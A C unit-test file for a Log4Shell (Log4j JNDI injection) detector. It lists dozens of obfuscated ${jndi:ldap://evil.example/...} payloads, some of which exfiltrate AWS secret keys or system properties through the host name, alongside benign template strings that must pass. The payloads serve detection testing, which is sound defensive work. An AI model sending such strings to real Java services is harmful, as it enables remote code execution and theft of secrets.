#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/detect.h"
#include "lists.h"

/* Caught at LOW (and so at HIGH). */
static const char *const attacks[] = {
    "${jndi:ldap://evil.example/a}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:rmi://evil.example:1099/obj}",
    "${jndi:dns://evil.example/x}",
    "${jndi:iiop://evil.example/x}",
    "${jndi:corba://evil.example/x}",
    "${jndi:nds://evil.example/x}",
    "${jndi:http://evil.example/x}",
    "${JnDi:LdAp://evil.example/a}",
    "${JNDI:ldap://evil.example/a}",
    "Mozilla/5.0 ${jndi:ldap://evil.example/ua}",
    "${ jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${::-j}ndi:rmi://evil.example/a}",
    "${${:-j}ndi:ldap://evil.example/a}",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//evil.example/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}ldap://evil.example/a}",
    "${${lower:jndi}:${lower:rmi}://evil.example/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}",
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}",
    "${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://evil.example/a}",
    "${j${::-nD}i${::-:}ldap://evil.example/a}",
    "${j${EnV:K5:-nD}i:ldap://evil.example/a}",
    "${j${loWer:Nd}i${uPper::}ldap://evil.example/a}",
    "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}",
    "${jnd${upper:\xc4\xb1}:ldap://evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "${jndi:ldap://${sys:java.version}.${hostName}.evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "%24%7Bjndi:ldap://evil.example/a%7D",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "%2524%257Bjndi:ldap://evil.example/a%257D",
    "\\u0024\\u007bjndi:ldap://evil.example/a\\u007d",
    "&#36;&#123;jndi:ldap://evil.example/a&#125;",
    "${jndi:ldap://evil.example/a",
    "X-Api-Version: ${jndi:ldap://evil.example/a}",
    "{\"user\":\"${jndi:ldap://evil.example/a}\"}",
    "$${jndi:ldap://evil.example/a}",
    "${${lower:${upper:j}}ndi:ldap://evil.example/a}",
    "${jn${env:X:-d}i:ldap://127.0.0.1:1389/Basic/Command/Base64/aWQ=}",
    "${\njndi:ldap://evil.example/a}",
};

/* Caught only at HIGH. */
static const char *const attacks_high[] = {
    "${${lower:l}og:x}",
    "${${::-e}nv:HOME}",
    "${${upper:s}ys:user.name}",
    "ldap://evil.example/${env:AWS_SECRET_ACCESS_KEY}",
    "http://evil.example/?k=${sys:user.name}",
    "${x:http://evil.example/${ctx:loginId}}",
};

/* Pass at LOW and at HIGH. */
static const char *const benign[] = {
    "Hello ${name}",
    "`Hello ${name}, you have ${count} new messages`",
    "const url = `${base}/api/${version}/users`;",
    "${HOME}/bin",
    "export PATH=${HOME}/bin:${PATH}",
    "${HOME:-/root}/.config",
    "cp ${SRC:-.}/a ${DST:-/tmp}/b",
    "${VAR:-${OTHER:-default}}",
    "${{ secrets.TOKEN }}",
    "run: echo ${{ github.ref }} ${{ matrix.os }}",
    "token: ${{ secrets.NPM_TOKEN }}",
    "region = \"${var.region}\"",
    "name = \"${local.prefix}-${terraform.workspace}\"",
    "server.port=${server.port:8080}",
    "spring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}",
    "@Value(\"${app.timeout:30}\")",
    "It costs $5, or $4.50 with a coupon",
    "$100 off! Save $$$ today",
    "# Heading\n\n* item with `code`\n* price: $3",
    "Use **bold** and _italic_ and [links](https://example.com/)",
    "%24 is a dollar sign and %7B a brace",
    "100% sure, 50%off",
    "a%20b%20c%3Dd",
    "&amp; &lt;tag&gt; &#169; &copy;",
    "C:\\Users\\name\\path",
    "\\u00e9t\\u00e9",
    "the jndi lookup in log4j was a bad idea",
    "JNDI: Java Naming and Directory Interface",
    "ldap://directory.example.com/ou=people",
    "${user.home}/.m2/repository",
    "<version>${project.version}</version>",
    "${project.groupId}:${project.artifactId}",
    "{\"template\":\"Dear ${customer.firstName},\"}",
    "${1+1}",
    "${}",
    "${",
    "}}}}${",
    "$",
    "price ${price} USD",
    "${env.HOME}",
    "${sys.path}",
    "Deploy to ${ENVIRONMENT} at ${TIMESTAMP}",
    "echo \"${arr[@]}\" ${#arr[@]} ${str:0:3} ${str//a/b}",
    "${date:yyyy-MM-dd}",
    "https://example.com/${path}/index.html",
};

static void attacks_detected_low(void **state)
{
	(void)state;
	check_list(sk_detect_log4j, attacks, COUNT(attacks), 0, true);
	check_list(sk_detect_log4j, attacks, COUNT(attacks), 1, true);
}

static void high_only(void **state)
{
	(void)state;
	check_list(sk_detect_log4j, attacks_high, COUNT(attacks_high), 1, true);
	check_list(sk_detect_log4j, attacks_high, COUNT(attacks_high), 0, false);
}

static void benign_passes(void **state)
{
	(void)state;
	check_list(sk_detect_log4j, benign, COUNT(benign), 0, false);
	check_list(sk_detect_log4j, benign, COUNT(benign), 1, false);
}

static void reason_and_span(void **state)
{
	(void)state;
	const char *s = "q=hello ${${lower:j}ndi:ldap://evil.example/a} bye";
	sk_detect_match m;
	assert_true(sk_detect_log4j((const uint8_t *)s, strlen(s), 0, &m));
	assert_non_null(
	    strstr(m.reason, "nested lookups evaluate to ${jndi:ldap://evil.example/a}"));
	assert_memory_equal(s + m.off, "${${lower:j}ndi", 15);
	assert_int_equal(m.off + m.len, strstr(s, " bye") - s);
}

static void nul_and_length(void **state)
{
	(void)state;
	static const uint8_t withnul[] = "${jn\0di:ldap://x}${jndi:ldap://y}";
	sk_detect_match m;
	assert_true(sk_detect_log4j(withnul, sizeof withnul - 1, 0, &m));
	assert_int_equal(m.off, 17);
	assert_false(sk_detect_log4j((const uint8_t *)"", 0, 0, NULL));
	assert_false(sk_detect_log4j(NULL, 0, 0, NULL));
	assert_false(sk_detect_log4j((const uint8_t *)"${jndi:ldap://x}", 5, 0, NULL));
	assert_true(sk_detect_log4j((const uint8_t *)"${jndi:ldap://x}", 16, 0, NULL));
}

/* Deep nesting and long inputs stay bounded and still decide. */
static void adversarial(void **state)
{
	(void)state;
	size_t n = 1 << 20;
	uint8_t *b = malloc(n + 64);
	assert_non_null(b);
	for (size_t i = 0; i + 1 < n; i += 2)
		b[i] = '$', b[i + 1] = '{';
	assert_false(sk_detect_log4j(b, n, 1, NULL));
	for (size_t i = 0; i < n; i++)
		b[i] = (i % 3 == 2) ? '}' : (i % 3 ? '{' : '$');
	assert_false(sk_detect_log4j(b, n, 1, NULL));
	memset(b, '%', n);
	assert_false(sk_detect_log4j(b, n, 1, NULL));
	/* 200 levels of ${lower: around the letters of jndi */
	size_t o = 0;
	for (int k = 0; k < 200; k++)
		o += (size_t)sprintf((char *)b + o, "${lower:");
	b[o++] = 'x';
	for (int k = 0; k < 200; k++)
		b[o++] = '}';
	o += (size_t)sprintf((char *)b + o, "${${lower:j}ndi:ldap://x/}");
	assert_true(sk_detect_log4j(b, o, 0, NULL));
	free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(attacks_detected_low), cmocka_unit_test(high_only),
	    cmocka_unit_test(benign_passes),        cmocka_unit_test(reason_and_span),
	    cmocka_unit_test(nul_and_length),       cmocka_unit_test(adversarial),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
